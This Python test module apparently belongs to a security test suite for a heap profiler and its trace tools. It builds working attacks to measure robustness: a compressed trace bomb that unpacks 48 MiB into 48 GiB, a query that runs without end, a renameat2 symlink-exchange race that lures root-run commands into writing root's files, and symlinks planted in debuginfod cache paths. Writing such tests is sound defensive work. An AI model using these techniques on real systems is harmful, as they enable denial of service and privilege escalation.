"""Hostile files: traces and queries that never end."""

import ctypes
import os
import resource
import signal
import subprocess
import time
import zlib

import trace_pb2
from attack_tools import MALLORY, ROOT, Child, Figure, attack, comes_true, cpu_seconds, folder_of, patience
from profile_run import HEAP_PROFILE


def cpu_seconds_of(command, patience_s):
    """What a command takes that refuses its file because it unpacks to too much; `patience_s` when it had not ended
    then."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    try:
        result = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=patience_s, check=False)
        assert b"unpack" in result.stderr, result.stderr
    except subprocess.TimeoutExpired:
        return patience_s
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime


def write_bomb(path, unpacked_gib):
    """A thousandth of that on disk: compressed packets without a field."""
    unpacked = b"\x0a\x00" * (32 << 20)
    packet = trace_pb2.Trace(packet=[trace_pb2.TracePacket(compressed_packets=zlib.compress(unpacked, 9))])
    piece = packet.SerializeToString()
    with open(path, "wb") as file:
        for _ in range((unpacked_gib << 30) // len(unpacked)):
            file.write(piece)


@attack("trace-bomb", "L1", 120)
def trace_bomb(is_quick):
    """Empty packets in compressed ones: 48 GiB of them in 48 MiB, or, in short, a twelfth of that."""
    unpacked_gib, limit_s = (4, 12) if is_quick else (48, 20)  # to read a GiB takes 10 s or longer
    path = os.path.join(folder_of(ROOT), "bomb.trace")
    write_bomb(path, unpacked_gib)
    commands = {"query": ["query", path, "select 1"], "traceconv profile": ["traceconv", "profile", path]}
    # Others may want the processors, too.
    return [Figure(f"processor time of {name}, {unpacked_gib} GiB in {unpacked_gib} MiB",
                   cpu_seconds_of([HEAP_PROFILE, *commands[name]], 2 * patience(limit_s)), "s", limit_s,
                   seen_up_to=2 * patience(limit_s))
            for name in (["query"] if is_quick else commands)]


INTERRUPT_LIMIT_S = 2
ONE_TRACE = "main;f 1\n"


@attack("sql-bomb", "L2", 60)
def sql_bomb(_):
    """A query that is one long step of the database: how long after Ctrl-C does it go on?"""
    path = os.path.join(folder_of(ROOT), "folded")
    with open(path, "w") as file:
        file.write(ONE_TRACE)
    process = subprocess.Popen([HEAP_PROFILE, "query", path, "SELECT length(printf('%.*c',1000000000,'x'))"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    is_at_it = comes_true(lambda: process.poll() is not None or cpu_seconds(process.pid) > 0.5, 20)
    assert is_at_it and process.poll() is None, f"the query is not at work: {process.stderr.read()}"
    begin = time.monotonic()
    process.send_signal(signal.SIGINT)
    try:
        process.wait(patience(INTERRUPT_LIMIT_S))
    except subprocess.TimeoutExpired:
        pass
    delay = time.monotonic() - begin
    process.kill()
    return [Figure("query goes on after the first Ctrl-C", delay, "s", INTERRUPT_LIMIT_S,
                   seen_up_to=patience(INTERRUPT_LIMIT_S))]


RENAME_EXCHANGE, AT_FDCWD = 2, -100


def snapshot(folder):
    """Everything that root has there: names, modes, contents."""
    found = {}
    for at, folders, files in os.walk(folder):
        for name in [".", *folders, *files]:
            path = os.path.join(at, name)
            status = os.lstat(path)
            found[path] = (status.st_mode, status.st_size, status.st_nlink, status.st_mtime_ns)
    return found


def exchange_for_ever(places, victim, tell):
    """What root names is by turns a folder of mallory's, a link to root's and a folder with a link to root's file."""
    libc = ctypes.CDLL(None)
    for place in places:
        os.symlink(victim, place + ".link")
        os.mkdir(place + ".folder")
        for name in ("wake", "lock", "socket", "raw-trace", "report.html", "out"):
            os.symlink(f"{victim}/passwd", f"{place}.folder/{name}")
    tell("begun")
    while True:
        for place in places:
            for other in (place + ".link", place + ".folder"):
                libc.renameat2(AT_FDCWD, place.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)


def root_at(place, round_number):
    """What root may be led to by an option or a variable, one after the other: a command and its environment."""
    own = folder_of(ROOT)
    record = [HEAP_PROFILE, "-q", "-o", f"{own}/out"]
    kinds = [([os.path.join(os.path.dirname(HEAP_PROFILE), "heapprofd"), "--exit-when-idle", "--directory", place], {}),
             ([*record, "-d", "10", "-p", "1"], {"HEAPPROFD_DIRECTORY": place}),
             ([HEAP_PROFILE, "-q", "-o", f"{place}/out{round_number}", "--", "/bin/true"], {}),
             ([*record, "--", "/bin/true"], {"TMPDIR": place}),
             ([*record, "--", "/bin/true"], {"HOME": place, "XDG_CACHE_HOME": place, "DEBUGINFOD_URLS": "http://127.0.0.1:9"})]
    return kinds[round_number % len(kinds)]


@attack("moved-places", "", 300)
def moved_places(is_quick):
    """Places that root is led to (--directory, HEAPPROFD_DIRECTORY, -o, TMPDIR, HOME) are exchanged with links meanwhile."""
    starts = 50 if is_quick else 1000
    victim = folder_of(ROOT)
    with open(f"{victim}/passwd", "w") as file:
        file.write("root")
    before = snapshot(victim)
    hostile = folder_of(MALLORY)
    place = f"{hostile}/x"
    os.mkdir(place)  # root's own, of an earlier start: mallory can rename it all the same
    child = Child(MALLORY, lambda tell: exchange_for_ever([place], victim, tell))
    assert child.next(10) == "begun"
    ended = 0
    for number in range(starts):
        command, environment = root_at(place, number)
        process = subprocess.Popen(command, env={"PATH": os.environ["PATH"], **environment}, stdin=subprocess.DEVNULL,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            process.wait(5)
            ended += 1
        except subprocess.TimeoutExpired:
            process.kill()  # a service that serves there
            process.wait()
    child.kill()
    after = snapshot(victim)
    changed = [path for path in before | after if before.get(path) != after.get(path)]
    return [Figure(f"of root's own files and folders changed or made: {', '.join(changed) or 'none'}", len(changed), "", 0),
            Figure("commands of root that have come to their end", ended, "", floor=starts // 2)]


@attack("foreign-home", "", 60)
def foreign_home(_):
    """Links in mallory's home, which root's commands have as HOME, lead what libdebuginfod writes to root's folders."""
    victim = folder_of(ROOT)
    home = folder_of(MALLORY)

    def prepare(tell):
        for cache in ("cache/debuginfod_client", ".cache/debuginfod_client"):
            os.makedirs(f"{home}/{cache}")
            for name in ("cache_clean_interval_s", "max_unused_age_s", "cache_miss_s"):
                os.symlink(f"{victim}/{name}", f"{home}/{cache}/{name}")
        os.makedirs(f"{home}/linked")
        os.symlink(victim, f"{home}/linked/debuginfod_client")
        tell("ready")
    child = Child(MALLORY, prepare)
    assert child.next(10) == "ready"
    os.waitpid(child.pid, 0)
    for environment in ({"HOME": home}, {"XDG_CACHE_HOME": f"{home}/cache"}, {"XDG_CACHE_HOME": f"{home}/linked"},
                        {"DEBUGINFOD_CACHE_PATH": f"{home}/cache/debuginfod_client"},
                        {"DEBUGINFOD_CACHE_PATH": f"{home}/linked/debuginfod_client"}):
        subprocess.run([HEAP_PROFILE, "-q", "-i", "1", "-o", f"{folder_of(ROOT)}/out", "--", "/bin/sleep", "0.1"],
                       env={"PATH": os.environ["PATH"], "DEBUGINFOD_URLS": "http://127.0.0.1:9", **environment},
                       stdin=subprocess.DEVNULL, capture_output=True, timeout=50, check=True)
    made = os.listdir(victim)
    return [Figure(f"files made in root's folder: {', '.join(made) or 'none'}", len(made), "", 0)]
